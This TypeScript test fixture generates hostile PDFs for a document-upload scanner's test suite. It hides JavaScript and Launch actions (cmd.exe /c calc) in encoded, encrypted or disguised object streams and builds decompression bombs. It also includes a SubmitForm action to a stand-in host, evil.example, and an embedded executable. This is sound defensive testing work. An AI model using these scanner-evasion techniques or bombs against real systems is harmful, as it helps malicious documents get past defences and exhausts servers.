/**
 * The hostile-upload corpus, built by the test code itself: each file that bypassed or froze the old
 * scanner (issue 9), zip bombs, and benign PDFs that must still pass. The writer below produces real,
 * parseable PDFs (correct offsets, cross-reference table or stream), so a refusal is for the content,
 * not for a broken file — except where a broken file is the point.
 */
import { createCipheriv, createHash, randomBytes } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';

interface PdfObject {
  num: number;
  /** the object's text (a dictionary, …) or, for a stream, its dictionary without /Length */
  body: string;
  stream?: Buffer;
  /** the end-of-line after `stream` (PDF allows CRLF or LF; some readers also take CR) */
  eol?: string;
}

/** Writes `objects` with a classic cross-reference table; objects inside object streams are listed in `compressed`. */
function writePdf(
  objects: PdfObject[],
  trailer: string,
  compressed: Array<{ num: number; objStm: number; index: number }> = [],
): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets = new Map<number, number>();
  const push = (b: Buffer) => {
    parts.push(b);
    offset += b.length;
  };
  for (const o of objects) {
    offsets.set(o.num, offset);
    if (o.stream) {
      push(
        Buffer.from(
          `${o.num} 0 obj\n<<${o.body}/Length ${o.stream.length}>>stream${o.eol ?? '\n'}`,
          'latin1',
        ),
      );
      push(o.stream);
      push(Buffer.from('\nendstream\nendobj\n', 'latin1'));
    } else push(Buffer.from(`${o.num} 0 obj\n${o.body}\nendobj\n`, 'latin1'));
  }
  const size = Math.max(...objects.map((o) => o.num), ...compressed.map((c) => c.num), 0) + 2;
  const xrefNum = size - 1;
  if (compressed.length === 0) {
    const lines = ['xref', `0 ${size - 1}`, '0000000000 65535 f '];
    for (let n = 1; n < size - 1; n++)
      lines.push(
        offsets.has(n) ? `${String(offsets.get(n)).padStart(10, '0')} 00000 n ` : '0000000000 00000 f ',
      );
    push(
      Buffer.from(
        `${lines.join('\n')}\ntrailer\n<<${trailer}/Size ${size - 1}>>\nstartxref\n${offset}\n%%EOF\n`,
        'latin1',
      ),
    );
    return Buffer.concat(parts);
  }
  // a cross-reference stream: type 1 (offset) for direct objects, type 2 (object stream, index) for the others
  const rows = Buffer.alloc(size * 7);
  offsets.set(xrefNum, offset);
  for (let n = 0; n < size; n++) {
    const c = compressed.find((x) => x.num === n);
    const at = n * 7;
    if (c) {
      rows[at] = 2;
      rows.writeUInt32BE(c.objStm, at + 1);
      rows.writeUInt16BE(c.index, at + 5);
    } else if (offsets.has(n)) {
      rows[at] = 1;
      rows.writeUInt32BE(offsets.get(n)!, at + 1);
    } else rows.writeUInt16BE(n === 0 ? 65535 : 0, at + 5);
  }
  const xrefAt = offset;
  push(
    Buffer.from(
      `${xrefNum} 0 obj\n<</Type/XRef/Size ${size}/W[1 4 2]${trailer}/Length ${rows.length}>>stream\n`,
      'latin1',
    ),
  );
  push(rows);
  push(Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const PAGES = [
  { num: 2, body: '<</Type/Pages/Kids[4 0 R]/Count 1>>' },
  {
    num: 4,
    body: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Resources<</Font<</F1 6 0 R>>>>>>',
  },
  { num: 5, body: '', stream: Buffer.from('BT /F1 18 Tf 72 760 Td (Certificato) Tj ET', 'latin1') },
  { num: 6, body: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>' },
];

/** A small valid one-page PDF; `catalogExtra` goes into the catalog, `extra` objects are added. */
export function plainPdf(catalogExtra = '', extra: PdfObject[] = [], trailerExtra = ''): Buffer {
  return writePdf(
    [{ num: 1, body: `<</Type/Catalog/Pages 2 0 R${catalogExtra}>>` }, ...PAGES, ...extra],
    `/Root 1 0 R${trailerExtra}`,
  );
}

/** A valid PDF of exactly `size` bytes (a comment stream pads it). */
export function validPdfOfSize(size: number): Buffer {
  const base = plainPdf('', [{ num: 7, body: '', stream: Buffer.alloc(0) }]).length;
  const pad = size - base;
  if (pad < 0) throw new Error(`a valid PDF needs at least ${base} bytes`);
  const out = plainPdf('', [{ num: 7, body: '', stream: Buffer.alloc(pad, 0x20) }]);
  // the /Length digits grow with the padding: shrink the padding by the difference
  return out.length === size
    ? out
    : plainPdf('', [{ num: 7, body: '', stream: Buffer.alloc(pad - (out.length - size), 0x20) }]);
}

const MIB = 1024 * 1024;

type Encoding = 'flate' | 'asciihex' | 'ascii85' | 'flate-png' | 'flate-endstream';

function ascii85(data: Buffer): string {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const chunk = Buffer.alloc(4);
    data.copy(chunk, 0, i, Math.min(i + 4, data.length));
    let v = chunk.readUInt32BE(0);
    const n = Math.min(4, data.length - i);
    const digits: string[] = [];
    for (let k = 0; k < 5; k++) {
      digits.unshift(String.fromCharCode(33 + (v % 85)));
      v = Math.floor(v / 85);
    }
    out += n === 4 && digits.join('') === '!!!!!' ? 'z' : digits.slice(0, n + 1).join('');
  }
  return `${out}~>`;
}

/** Flate with the PNG "Up" predictor (each byte minus the one above): the plain text is gone. */
function flatePng(data: Buffer, columns: number): Buffer {
  const rows = Math.ceil(data.length / columns);
  const padded = Buffer.alloc(rows * columns, 0x20);
  data.copy(padded);
  const out = Buffer.alloc(rows * (columns + 1));
  for (let r = 0; r < rows; r++) {
    out[r * (columns + 1)] = 2;
    for (let c = 0; c < columns; c++) {
      const above = r > 0 ? padded[(r - 1) * columns + c]! : 0;
      out[r * (columns + 1) + 1 + c] = (padded[r * columns + c]! - above) & 0xff;
    }
  }
  return deflateSync(out);
}

function adler32(data: Buffer): Buffer {
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  const out = Buffer.alloc(4);
  out.writeUInt32BE(((b << 16) | a) >>> 0);
  return out;
}

/**
 * A zlib stream whose first block is stored (uncompressed) up to and including the first
 * "endstream" of `data`, the rest compressed: the raw bytes contain the word `endstream` where a
 * scanner that cuts there loses the compressed rest, and the JavaScript is not readable as text.
 */
function deflateWithLiteralEndstream(data: Buffer): Buffer {
  const cut = data.indexOf('endstream') + 'endstream'.length;
  const stored = deflateRawSync(data.subarray(0, cut), { level: 0, finishFlush: constants.Z_FULL_FLUSH });
  const rest = deflateRawSync(data.subarray(cut), { level: 9 });
  return Buffer.concat([Buffer.from([0x78, 0x01]), stored, rest, adler32(data)]);
}

function encode(data: Buffer, how: Encoding): { filter: string; bytes: Buffer } {
  switch (how) {
    case 'flate':
      return { filter: '/Filter/FlateDecode', bytes: deflateSync(data) };
    case 'flate-endstream':
      return { filter: '/Filter/FlateDecode', bytes: deflateWithLiteralEndstream(data) };
    case 'asciihex':
      return { filter: '/Filter/ASCIIHexDecode', bytes: Buffer.from(`${data.toString('hex')}>`, 'latin1') };
    case 'ascii85':
      return { filter: '/Filter/ASCII85Decode', bytes: Buffer.from(ascii85(data), 'latin1') };
    case 'flate-png':
      return {
        filter: '/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>',
        bytes: flatePng(data, 8),
      };
  }
}

/**
 * The catalog and its JavaScript open action hidden in an object stream (objects 1 and 3 in
 * object 10), encoded as asked; `before` objects come first in the file.
 */
export function objStmJavaScript(
  how: Encoding,
  opts: { eol?: string; catalogText?: string; before?: PdfObject[] } = {},
): Buffer {
  const objs = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R/Lang(${opts.catalogText ?? 'it'})>>`,
    '<</S/JavaScript/JS(app.alert(1))>>',
  ];
  let header = '';
  let body = '';
  [1, 3].forEach((num, i) => {
    header += `${num} ${body.length} `;
    body += `${objs[i]}\n`;
  });
  const plain = Buffer.from(header + body, 'latin1');
  const { filter, bytes } = encode(plain, how);
  const objStm: PdfObject = {
    num: 10,
    body: `/Type/ObjStm/N 2/First ${header.length}${filter}`,
    stream: bytes,
    ...(opts.eol ? { eol: opts.eol } : {}),
  };
  return writePdf([...(opts.before ?? []), ...PAGES, objStm], '/Root 1 0 R', [
    { num: 1, objStm: 10, index: 0 },
    { num: 3, objStm: 10, index: 1 },
  ]);
}

/**
 * A zlib stream of `mib` MiB of zeros, built without ever holding them: one raw deflate block of
 * 1 MiB (sync-flushed, so blocks concatenate) repeated, a final empty block, the zlib header and the
 * Adler-32 of n zeros (a = 1, b = n mod 65521). `tail` garbage makes inflating fail at the end.
 */
export function deflatedZeros(mib: number, tail = Buffer.alloc(0)): Buffer {
  const block = deflateRawSync(Buffer.alloc(MIB), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((mib * MIB) % 65521) * 65536 + 1) >>> 0);
  const last = deflateRawSync(Buffer.alloc(0));
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array.from({ length: mib }, () => block),
    ...(tail.length ? [tail] : [last, adler]),
  ]);
}

// ------------------------------------------------------------------ AES-256 (PDF 2.0, R6) encryption

function hash2B(password: Buffer, salt: Buffer, udata: Buffer): Buffer {
  let k = createHash('sha256')
    .update(Buffer.concat([password, salt, udata]))
    .digest();
  for (let round = 0; ; round++) {
    const k1 = Buffer.concat(Array.from({ length: 64 }, () => Buffer.concat([password, k, udata])));
    const cipher = createCipheriv('aes-128-cbc', k.subarray(0, 16), k.subarray(16, 32));
    cipher.setAutoPadding(false);
    const e = Buffer.concat([cipher.update(k1), cipher.final()]);
    let sum = 0;
    for (let i = 0; i < 16; i++) sum += e[i]!;
    k = createHash(['sha256', 'sha384', 'sha512'][sum % 3]!)
      .update(e)
      .digest();
    if (round >= 63 && e[e.length - 1]! <= round - 32) break;
  }
  return k.subarray(0, 32);
}

function aesNoIv(key: Buffer, data: Buffer, mode: 'aes-256-cbc' | 'aes-256-ecb'): Buffer {
  const c =
    mode === 'aes-256-cbc' ? createCipheriv(mode, key, Buffer.alloc(16)) : createCipheriv(mode, key, null);
  c.setAutoPadding(false);
  return Buffer.concat([c.update(data), c.final()]);
}

/**
 * A really AES-256 encrypted PDF (Standard security handler, R6, empty user password, so pdf.js and
 * any viewer open it without asking) whose JavaScript open action is in an encrypted object stream:
 * no scanner of the raw bytes can see it.
 */
export function aes256EncryptedJavaScript(): Buffer {
  const fileKey = randomBytes(32);
  const empty = Buffer.alloc(0);
  const [uv, uk, ov, ok] = [randomBytes(8), randomBytes(8), randomBytes(8), randomBytes(8)];
  const u = Buffer.concat([hash2B(empty, uv, empty), uv, uk]);
  const ue = aesNoIv(hash2B(empty, uk, empty), fileKey, 'aes-256-cbc');
  const owner = Buffer.from('proprietario');
  const o = Buffer.concat([hash2B(owner, ov, u), ov, ok]);
  const oe = aesNoIv(hash2B(owner, ok, u), fileKey, 'aes-256-cbc');
  const perms = Buffer.alloc(16);
  perms.writeInt32LE(-4, 0);
  perms.writeInt32LE(-1, 4);
  perms.write('Tadb', 8, 'latin1');
  randomBytes(4).copy(perms, 12);
  const encPerms = aesNoIv(fileKey, perms, 'aes-256-ecb');
  const encrypt = (plain: Buffer) => {
    const iv = randomBytes(16);
    const c = createCipheriv('aes-256-cbc', fileKey, iv);
    return Buffer.concat([iv, c.update(plain), c.final()]);
  };
  const hex = (b: Buffer) => `<${b.toString('hex')}>`;
  const encryptDict = `<</Filter/Standard/V 5/R 6/Length 256/P -4/U${hex(u)}/O${hex(o)}/UE${hex(ue)}/OE${hex(oe)}/Perms${hex(encPerms)}/CF<</StdCF<</CFM/AESV3/AuthEvent/DocOpen/Length 32>>>>/StmF/StdCF/StrF/StdCF>>`;
  // the catalog and its JavaScript open action in an object stream, compressed then encrypted
  const objs = '<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>\n<</S/JavaScript/JS(app.alert(1))>>\n';
  const content = `1 0 3 ${objs.indexOf('\n') + 1} `;
  const objStm = encrypt(deflateSync(Buffer.from(content + objs, 'latin1')));
  const pages = PAGES.map((p) => (p.stream ? { ...p, stream: encrypt(p.stream) } : p));
  return writePdf(
    [
      { num: 9, body: encryptDict },
      ...pages,
      { num: 10, body: `/Type/ObjStm/N 2/First ${content.length}/Filter/FlateDecode`, stream: objStm },
    ],
    `/Root 1 0 R/Encrypt 9 0 R/ID[<${'ab'.repeat(16)}><${'ab'.repeat(16)}>]`,
    [
      { num: 1, objStm: 10, index: 0 },
      { num: 3, objStm: 10, index: 1 },
    ],
  );
}

// ------------------------------------------------------------------ the corpus

const XFA_SCRIPT =
  '<xdp:xdp><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>';

export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** the refusal expected (either is a refusal; the code tells which check caught it) */
  code: 'DOCUMENT_UNSAFE' | 'DOCUMENT_UNREADABLE';
}

/** Every file of the corpus (built once: some are megabytes). */
export function hostileCorpus(): HostileFile[] {
  const bomb64 = deflatedZeros(64);
  // 40 streams of ~195 KB, each inflating to ~190 MiB and then failing on garbage
  const broken = deflatedZeros(190, Buffer.from('garbage!'));
  const forty = Array.from({ length: 40 }, (_, i) => ({
    num: 20 + i,
    body: '/Filter/FlateDecode',
    stream: broken,
  }));
  return [
    { name: 'object stream in ASCIIHex', bytes: objStmJavaScript('asciihex'), code: 'DOCUMENT_UNSAFE' },
    { name: 'object stream in ASCII85', bytes: objStmJavaScript('ascii85'), code: 'DOCUMENT_UNSAFE' },
    { name: 'Flate with a PNG predictor', bytes: objStmJavaScript('flate-png'), code: 'DOCUMENT_UNSAFE' },
    {
      name: 'a literal endstream inside compressed data',
      bytes: objStmJavaScript('flate-endstream', { catalogText: 'endstream' }),
      code: 'DOCUMENT_UNSAFE',
    },
    {
      name: 'a 64 MiB stream placed first to exhaust the budget',
      bytes: objStmJavaScript('flate', { before: [{ num: 8, body: '/Filter/FlateDecode', stream: bomb64 }] }),
      code: 'DOCUMENT_UNREADABLE',
    },
    {
      name: '`stream\\r` line endings',
      bytes: objStmJavaScript('flate', { eol: '\r' }),
      code: 'DOCUMENT_UNSAFE',
    },
    {
      name: 'an XFA form with a <script>',
      bytes: plainPdf('/AcroForm 7 0 R', [
        { num: 7, body: '<</Fields[]/XFA 8 0 R>>' },
        { num: 8, body: '/Filter/FlateDecode', stream: deflateSync(XFA_SCRIPT) },
      ]),
      code: 'DOCUMENT_UNSAFE',
    },
    {
      name: 'an AES-256 encrypted PDF with JavaScript',
      bytes: aes256EncryptedJavaScript(),
      code: 'DOCUMENT_UNSAFE',
    },
    {
      name: 'a zip bomb object stream (1 GiB of zeros)',
      bytes: zipBombObjStm(),
      code: 'DOCUMENT_UNREADABLE',
    },
    {
      name: 'a zip bomb as the document metadata',
      bytes: plainPdf('/Metadata 7 0 R', [
        { num: 7, body: '/Type/Metadata/Subtype/XML/Filter/FlateDecode', stream: bomb64 },
      ]),
      code: 'DOCUMENT_UNREADABLE',
    },
    // one `endstream` at the very end: the old scanner searched for it again from each of the 150,000 `stream`
    {
      name: '1 MB of "stream\\n"',
      bytes: Buffer.from(`%PDF-1.4\n${'stream\n'.repeat(Math.floor(MIB / 7))}endstream\n`, 'latin1'),
      code: 'DOCUMENT_UNREADABLE',
    },
    { name: '7.8 MB with 40 broken Flate streams', bytes: plainPdf('', forty), code: 'DOCUMENT_UNREADABLE' },
    {
      name: 'a /Launch written #-escaped in a Flate object stream',
      bytes: launchInObjStm(),
      code: 'DOCUMENT_UNSAFE',
    },
    ...hiddenActionCorpus(),
    {
      name: 'an embedded file',
      bytes: plainPdf('/Names<</EmbeddedFiles<</Names[(a.exe) 7 0 R]>>>>', [
        { num: 7, body: '<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>' },
        { num: 8, body: '/Type/EmbeddedFile', stream: Buffer.from('MZ') },
      ]),
      code: 'DOCUMENT_UNSAFE',
    },
  ];
}

function zipBombObjStm(): Buffer {
  const data = deflatedZeros(1024);
  return writePdf(
    [
      ...PAGES,
      { num: 1, body: '<</Type/Catalog/Pages 2 0 R>>' },
      { num: 10, body: '/Type/ObjStm/N 1/First 4/Filter/FlateDecode', stream: data },
    ],
    '/Root 1 0 R',
  );
}

function launchInObjStm(): Buffer {
  const objs = '1 0 3 46 <</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>\n<</S/L#61unch/F(cmd.exe)>>\n';
  return writePdf(
    [
      ...PAGES,
      {
        num: 10,
        body: '/Type/ObjStm/N 2/First 9/Filter/FlateDecode',
        stream: deflateSync(Buffer.from(objs, 'latin1')),
      },
    ],
    '/Root 1 0 R',
    [
      { num: 1, objStm: 10, index: 0 },
      { num: 3, objStm: 10, index: 1 },
    ],
  );
}

// ------------------------------------------------------------------ actions hidden from a naive stream scanner (issue 9 review)

/** How an object stream hides from a scanner that reads its dictionary with regular expressions. */
export type ObjStmTrick = 'subtype-image' | 'nested-decodeparms' | 'indirect-filter' | 'text-after-stream';

const ACTIONS = {
  Launch: '<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>',
  SubmitForm: '<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>/Flags 4>>',
  GoToR: '<</S/GoToR/F(//evil.example/share/x.pdf)/D[0/Fit]>>',
} as const;

/** The object stream's dictionary entries for `trick` (object 9 holds the filter when it is indirect). */
function trickDict(trick: ObjStmTrick): { filter: string; extra: PdfObject[]; eol?: string } {
  switch (trick) {
    case 'subtype-image':
      return { filter: '/Filter/FlateDecode/Subtype/Image', extra: [] };
    case 'nested-decodeparms':
      // the stream's dictionary ends with a nested one: a scanner taking the last `<<` loses /Type and /Filter
      return { filter: '/Filter/FlateDecode/DecodeParms<</Columns 1>>', extra: [] };
    case 'indirect-filter':
      return { filter: '/Filter 9 0 R', extra: [{ num: 9, body: '/FlateDecode' }] };
    case 'text-after-stream':
      // pdf.js skips to the next line after `stream`; a scanner wanting an end of line right after it sees no stream
      return { filter: '/Filter/FlateDecode', extra: [], eol: '  %x\n' };
  }
}

/**
 * A page whose /AA open action (object 11) and link annotation action (object 13) are in a Flate
 * object stream (object 10) hidden by `trick`; `padMib` MiB of zeros before the objects make the
 * object stream a decompression bomb (then the actions are harmless links).
 */
export function actionsInObjStm(
  trick: ObjStmTrick,
  action: keyof typeof ACTIONS | 'URI',
  padMib = 0,
): Buffer {
  const act = action === 'URI' ? '<</S/URI/URI(https://example.org/)>>' : ACTIONS[action];
  const objs = `<</O ${act}>>\n${act}\n`;
  const pad = padMib * MIB;
  const header = `11 ${pad} 13 ${pad + objs.indexOf('\n') + 1} `.padEnd(32, ' ');
  const data =
    padMib === 0
      ? deflateSync(Buffer.from(header + objs, 'latin1'))
      : deflateAround(Buffer.from(header, 'latin1'), padMib, Buffer.from(objs, 'latin1'));
  const { filter, extra, eol } = trickDict(trick);
  const page = { num: 4, body: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[12 0 R]/AA 11 0 R>>' };
  return writePdf(
    [
      { num: 1, body: '<</Type/Catalog/Pages 2 0 R>>' },
      { num: 2, body: '<</Type/Pages/Kids[4 0 R]/Count 1>>' },
      page,
      { num: 12, body: '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/Border[0 0 0]/A 13 0 R>>' },
      ...extra,
      {
        num: 10,
        body: `/Type/ObjStm/N 2/First ${header.length}${filter}`,
        stream: data,
        ...(eol ? { eol } : {}),
      },
    ],
    '/Root 1 0 R',
    [
      { num: 11, objStm: 10, index: 0 },
      { num: 13, objStm: 10, index: 1 },
    ],
  );
}

/** zlib of `head`, `mib` MiB of zeros and `tail`, built without holding the zeros (see deflatedZeros). */
function deflateAround(head: Buffer, mib: number, tail: Buffer): Buffer {
  const sync = { level: 9, finishFlush: constants.Z_SYNC_FLUSH };
  const zeros = deflateRawSync(Buffer.alloc(MIB), sync);
  // Adler-32 over head, the zeros (a unchanged, b grows by a per byte) and tail
  let a = 1;
  let b = 0;
  const add = (bytes: Buffer) => {
    for (const byte of bytes) {
      a = (a + byte) % 65521;
      b = (b + a) % 65521;
    }
  };
  add(head);
  b = (b + ((mib * MIB) % 65521) * a) % 65521;
  add(tail);
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(((b << 16) | a) >>> 0);
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    deflateRawSync(head, sync),
    ...Array.from({ length: mib }, () => zeros),
    deflateRawSync(tail),
    adler,
  ]);
}

/** Every trick × Launch, SubmitForm, GoToR, and every trick as a bomb whose objects are harmless. */
export function hiddenActionCorpus(): HostileFile[] {
  const tricks: ObjStmTrick[] = [
    'subtype-image',
    'nested-decodeparms',
    'indirect-filter',
    'text-after-stream',
  ];
  const actions = ['Launch', 'SubmitForm', 'GoToR'] as const;
  return tricks.flatMap((trick) => [
    ...actions.map((action): HostileFile => ({
      name: `a ${action} action in an object stream with ${trick}`,
      bytes: actionsInObjStm(trick, action),
      // an indirect filter is refused before its objects are read
      code: trick === 'indirect-filter' ? 'DOCUMENT_UNREADABLE' : 'DOCUMENT_UNSAFE',
    })),
    {
      name: `a 64 MiB object stream bomb with ${trick}`,
      bytes: actionsInObjStm(trick, 'URI', 64),
      code: 'DOCUMENT_UNREADABLE',
    },
  ]);
}
